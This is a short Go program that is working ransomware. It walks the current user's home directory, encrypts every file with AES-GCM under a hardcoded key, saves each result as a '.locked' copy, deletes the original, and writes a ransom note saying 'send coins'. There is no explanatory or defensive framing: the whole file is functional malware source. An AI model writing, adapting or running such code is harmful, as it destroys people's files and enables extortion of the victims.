package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"io"
	"os"
	"path/filepath"
)

var key = []byte("0123456789abcdef0123456789abcdef")

func encrypt(path string) error {
	plain, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	block, _ := aes.NewCipher(key)
	gcm, _ := cipher.NewGCM(block)
	nonce := make([]byte, gcm.NonceSize())
	io.ReadFull(rand.Reader, nonce)
	os.WriteFile(path+".locked", gcm.Seal(nonce, nonce, plain, nil), 0600)
	return os.Remove(path)
}

func main() {
	root, _ := os.UserHomeDir()
	filepath.Walk(root, func(p string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			encrypt(p)
		}
		return nil
	})
	os.WriteFile("README_DECRYPT.txt", []byte("send coins"), 0644)
}
